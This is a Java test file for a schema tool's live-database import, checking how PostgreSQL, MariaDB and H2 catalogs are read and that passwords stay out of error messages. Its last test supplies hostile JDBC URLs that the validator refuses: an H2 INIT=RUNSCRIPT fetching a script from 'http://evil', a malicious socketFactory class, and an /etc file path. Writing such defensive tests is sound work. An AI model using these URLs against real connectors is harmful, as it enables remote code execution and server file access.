package org.schemaboard.importing.live;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.Locale;
import java.util.UUID;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.schemaboard.base.ValidationException;
import org.schemaboard.importing.sql.ImportDialect;
import org.schemaboard.importing.sql.ImportPlan;

/**
 * Reading live databases' catalogs into the import plan: a real PostgreSQL ({@code SCHEMABOARD_TEST_PG_URL}) and
 * MariaDB ({@code SCHEMABOARD_TEST_MARIADB_URL}) when CI names them, an in-memory H2 always.
 */
class LiveCatalogReadTest {

    static final String SHOP = """
            CREATE TABLE customers (id INTEGER GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
              email VARCHAR(200) NOT NULL UNIQUE, name VARCHAR(80), deleted_at TIMESTAMP,
              balance NUMERIC(12,2) DEFAULT 0 CHECK (balance >= 0));
            COMMENT ON TABLE customers IS 'People who buy';
            COMMENT ON COLUMN customers.email IS 'Where receipts go';
            CREATE TABLE orders (id BIGSERIAL PRIMARY KEY, customer_id INTEGER NOT NULL
              REFERENCES customers(id) ON DELETE CASCADE ON UPDATE RESTRICT, status VARCHAR(20) NOT NULL,
              tags TEXT[], created_at TIMESTAMP WITH TIME ZONE NOT NULL);
            CREATE INDEX orders_open ON orders (customer_id, created_at DESC) WHERE status <> 'done';
            CREATE INDEX orders_tags ON orders USING gin (tags);
            CREATE INDEX customers_lower_email ON customers (lower(email));
            CREATE TABLE events (id BIGINT NOT NULL, region TEXT NOT NULL, created_at DATE NOT NULL,
              customer_id INTEGER REFERENCES customers(id) ON DELETE SET NULL) PARTITION BY RANGE (created_at);
            CREATE TABLE events_2024 PARTITION OF events FOR VALUES FROM ('2024-01-01') TO ('2025-01-01');
            CREATE TABLE events_default PARTITION OF events DEFAULT;
            CREATE VIEW open_orders AS SELECT * FROM orders WHERE status <> 'done';
            """;

    @Test
    void postgresql_catalog_keeps_fk_actions_index_methods_predicates_comments_identity_and_partitioning()
            throws Exception {
        String base = System.getenv("SCHEMABOARD_TEST_PG_URL");
        Assumptions.assumeTrue(base != null && !base.isBlank(), "set SCHEMABOARD_TEST_PG_URL to run this test");
        String schema = "live_" + UUID.randomUUID().toString().substring(0, 8);
        try (Connection admin = DriverManager.getConnection(base); Statement s = admin.createStatement()) {
            s.execute("CREATE SCHEMA " + schema);
            s.execute("SET search_path TO " + schema);
            s.execute(SHOP);
            String url = base + (base.contains("?") ? "&" : "?") + "currentSchema=" + schema;
            ImportPlan plan = LiveImportService.read(new LiveConnection(url, null, null), null, false).plan();

            assertThat(plan.dialect()).isEqualTo(ImportDialect.POSTGRESQL);
            assertThat(plan.tables()).extracting(ImportPlan.Table::name)
                    .containsExactly("customers", "events", "orders");  // partitions folded into events
            ImportPlan.Table customers = plan.table("customers").orElseThrow();
            assertThat(customers.comment()).isEqualTo("People who buy");
            assertThat(customers.column("email").orElseThrow().comment()).isEqualTo("Where receipts go");
            assertThat(customers.column("email").orElseThrow().length()).isEqualTo(200);
            assertThat(customers.column("id").orElseThrow().autoIncrement()).isTrue();
            assertThat(customers.column("balance").orElseThrow().precision()).isEqualTo(12);
            assertThat(customers.column("balance").orElseThrow().check()).contains("balance >= ");
            assertThat(customers.uniqueConstraints()).containsExactly(java.util.List.of("email"));
            ImportPlan.Table orders = plan.table("orders").orElseThrow();
            assertThat(orders.column("id").orElseThrow().type()).isEqualTo("BIGINT");
            assertThat(orders.column("id").orElseThrow().autoIncrement()).isTrue();
            assertThat(orders.column("id").orElseThrow().defaultValue()).isNull();
            assertThat(orders.column("tags").orElseThrow().type()).isEqualTo("TEXT[]");
            assertThat(orders.column("created_at").orElseThrow().type()).isEqualTo("TIMESTAMP WITH TIME ZONE");

            ImportPlan.ForeignKey toCustomer = plan.foreignKeys().stream().filter(f -> f.table().equals("orders"))
                    .findFirst().orElseThrow();
            assertThat(toCustomer.onDelete()).isEqualTo("CASCADE");
            assertThat(toCustomer.onUpdate()).isEqualTo("RESTRICT");
            assertThat(plan.foreignKeys()).anyMatch(f -> f.table().equals("events")
                    && "SET NULL".equals(f.onDelete()));

            ImportPlan.IndexPlan open = index(plan, "orders_open");
            assertThat(open.where()).contains("status").contains("'done'");
            assertThat(open.method()).isEqualTo("btree");
            assertThat(open.columns()).extracting(ImportPlan.IndexColumn::name)
                    .containsExactly("customer_id", "created_at");
            assertThat(open.columns().get(1).descending()).isTrue();
            assertThat(index(plan, "orders_tags").method()).isEqualTo("gin");
            assertThat(plan.indexes()).noneMatch(i -> i.name().equals("customers_lower_email"));
            assertThat(plan.warnings()).anyMatch(w -> w.text().contains("customers_lower_email"));

            assertThat(plan.partitionings()).singleElement().satisfies(p -> {
                assertThat(p.table()).isEqualTo("events");
                assertThat(p.strategy()).isEqualTo("RANGE");
                assertThat(p.key()).isEqualTo("created_at");
                assertThat(p.partitions()).extracting(ImportPlan.Partition::name)
                        .containsExactly("events_2024", "events_default");
                assertThat(p.partitions().get(1).bound()).isEqualTo("DEFAULT");
            });
            assertThat(plan.views()).extracting(ImportPlan.View::name).containsExactly("open_orders");
            assertThat(plan.importable()).isTrue();
        } finally {
            try (Connection admin = DriverManager.getConnection(base); Statement s = admin.createStatement()) {
                s.execute("DROP SCHEMA IF EXISTS " + schema + " CASCADE");
            }
        }
    }

    @Test
    void h2_in_memory_catalog_is_read_with_keys_actions_indexes_and_comments() throws Exception {
        String url = "jdbc:h2:mem:formats21_" + UUID.randomUUID().toString().substring(0, 8) + ";DB_CLOSE_DELAY=-1";
        try (Connection keep = DriverManager.getConnection(url, "sa", ""); Statement s = keep.createStatement()) {
            s.execute("""
                    CREATE TABLE authors (id INTEGER GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY,
                      name VARCHAR(100) NOT NULL, CONSTRAINT authors_name UNIQUE (name));
                    COMMENT ON TABLE authors IS 'Who writes';
                    COMMENT ON COLUMN authors.name IS 'Full name';
                    CREATE TABLE books (id INTEGER PRIMARY KEY, author_id INTEGER,
                      title VARCHAR(300) NOT NULL, price DECIMAL(8,2),
                      CONSTRAINT books_author FOREIGN KEY (author_id) REFERENCES authors(id) ON DELETE SET NULL);
                    CREATE INDEX books_title ON books (title DESC);
                    """);
            ImportPlan plan = LiveImportService.read(new LiveConnection(url, "sa", ""), null, false).plan();

            assertThat(plan.dialect()).isEqualTo(ImportDialect.H2);
            assertThat(plan.tables()).extracting(t -> t.name().toLowerCase(Locale.ROOT))
                    .containsExactly("authors", "books");
            ImportPlan.Table authors = plan.table("authors").orElseThrow();
            assertThat(authors.comment()).isEqualTo("Who writes");
            assertThat(authors.column("name").orElseThrow().comment()).isEqualTo("Full name");
            assertThat(authors.column("id").orElseThrow().autoIncrement()).isTrue();
            assertThat(authors.uniqueConstraints()).hasSize(1);
            assertThat(plan.table("books").orElseThrow().column("price").orElseThrow().scale()).isEqualTo(2);
            assertThat(plan.foreignKeys()).singleElement().satisfies(fk -> {
                assertThat(fk.onDelete()).isEqualTo("SET NULL");
                assertThat(fk.referencedTable()).isEqualToIgnoringCase("authors");
            });
            assertThat(plan.indexes()).extracting(i -> i.name().toLowerCase(Locale.ROOT)).contains("books_title");
            assertThat(index(plan, "BOOKS_TITLE").columns().get(0).descending()).isTrue();
        }
    }

    @Test
    void mariadb_catalog_keeps_enum_values_unsigned_fulltext_and_fk_actions() throws Exception {
        String base = System.getenv("SCHEMABOARD_TEST_MARIADB_URL");
        Assumptions.assumeTrue(base != null && !base.isBlank(), "set SCHEMABOARD_TEST_MARIADB_URL to run this test");
        String db = "live_" + UUID.randomUUID().toString().substring(0, 8);
        try (Connection admin = DriverManager.getConnection(base); Statement s = admin.createStatement()) {
            s.execute("CREATE DATABASE " + db);
            s.execute("USE " + db);
            s.execute("CREATE TABLE shops (id INT UNSIGNED AUTO_INCREMENT PRIMARY KEY, "
                    + "kind ENUM('Small','Large') NOT NULL COMMENT 'How big', about TEXT, FULLTEXT KEY shops_about "
                    + "(about)) COMMENT 'Places'");
            s.execute("CREATE TABLE items (id INT PRIMARY KEY, shop_id INT UNSIGNED, CONSTRAINT items_shop "
                    + "FOREIGN KEY (shop_id) REFERENCES shops(id) ON DELETE CASCADE ON UPDATE SET NULL)");
            String url = base.replaceFirst("/(\\?|$)", "/" + db + "$1");
            ImportPlan plan = LiveImportService.read(new LiveConnection(url, null, null), null, false).plan();

            assertThat(plan.dialect()).isEqualTo(ImportDialect.MYSQL);
            ImportPlan.Table shops = plan.table("shops").orElseThrow();
            assertThat(shops.comment()).isEqualTo("Places");
            assertThat(shops.column("kind").orElseThrow().type()).isEqualTo("ENUM('Small','Large')");
            assertThat(shops.column("kind").orElseThrow().comment()).isEqualTo("How big");
            assertThat(shops.column("id").orElseThrow().type()).isEqualTo("INT UNSIGNED");
            assertThat(shops.column("id").orElseThrow().autoIncrement()).isTrue();
            assertThat(index(plan, "shops_about").method()).isEqualTo("fulltext");
            assertThat(plan.foreignKeys()).singleElement().satisfies(fk -> {
                assertThat(fk.onDelete()).isEqualTo("CASCADE");
                assertThat(fk.onUpdate()).isEqualTo("SET NULL");
            });
        } finally {
            try (Connection admin = DriverManager.getConnection(base); Statement s = admin.createStatement()) {
                s.execute("DROP DATABASE IF EXISTS " + db);
            }
        }
    }

    @Test
    void an_unreachable_host_is_named_within_the_timeout_and_the_password_never_appears() {
        String password = "s3cret-" + UUID.randomUUID();
        long start = System.nanoTime();
        assertThatThrownBy(() -> LiveImportService.read(new LiveConnection(
                "jdbc:postgresql://127.0.0.1:1/nowhere?password=" + password, "someone", password), null, false))
                .isInstanceOf(LiveDatabaseException.class)
                .hasMessageContaining("Could not reach the database at jdbc:postgresql://127.0.0.1:1/nowhere")
                .hasMessageNotContaining(password);
        assertThat((System.nanoTime() - start) / 1_000_000_000L).isLessThan(LiveConnection.CONNECT_SECONDS + 5);
    }

    @Test
    void wrong_credentials_are_reported_as_such_without_the_password() {
        String base = System.getenv("SCHEMABOARD_TEST_PG_URL");
        String password = "wrong-" + UUID.randomUUID();
        String url = base != null && !base.isBlank() ? base.replaceFirst("\\?.*$", "")
                : null;
        if (url == null) {
            // H2: a wrong password for an existing in-memory database's user
            url = "jdbc:h2:mem:formats21_creds;DB_CLOSE_DELAY=-1";
            try (Connection keep = DriverManager.getConnection(url, "owner", "right")) {
                String h2 = url;
                assertThatThrownBy(() -> LiveImportService.read(new LiveConnection(h2, "owner", password), null,
                        false)).isInstanceOf(LiveDatabaseException.class)
                        .hasMessageContaining("refused the user name or password").hasMessageNotContaining(password);
            } catch (java.sql.SQLException e) {
                throw new AssertionError(e);
            }
            return;
        }
        String pg = url;
        assertThatThrownBy(() -> LiveImportService.read(new LiveConnection(pg, "no_such_user_formats21", password),
                null, false)).isInstanceOf(LiveDatabaseException.class)
                .hasMessageContaining("refused the user name or password").hasMessageNotContaining(password);
    }

    @Test
    void urls_that_could_run_code_or_open_server_files_are_refused() {
        assertThatThrownBy(() -> LiveImportService.read(new LiveConnection(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", null, null), null, false))
                .isInstanceOf(ValidationException.class).hasMessageContaining("INIT");
        assertThatThrownBy(() -> LiveImportService.read(new LiveConnection(
                "jdbc:postgresql://db/x?socketFactory=org.Evil", null, null), null, false))
                .isInstanceOf(ValidationException.class).hasMessageContaining("socketFactory");
        assertThatThrownBy(() -> LiveImportService.read(new LiveConnection("jdbc:h2:/etc/schemaboard", null, null),
                null, false)).isInstanceOf(ValidationException.class).hasMessageContaining("tcp");
        assertThatThrownBy(() -> LiveImportService.read(new LiveConnection("jdbc:oracle:thin:@x", null, null),
                null, false)).isInstanceOf(ValidationException.class).hasMessageContaining("PostgreSQL");
    }

    private static ImportPlan.IndexPlan index(ImportPlan plan, String name) {
        return plan.indexes().stream().filter(i -> i.name().equalsIgnoreCase(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no index " + name + " in " + plan.indexes()));
    }
}
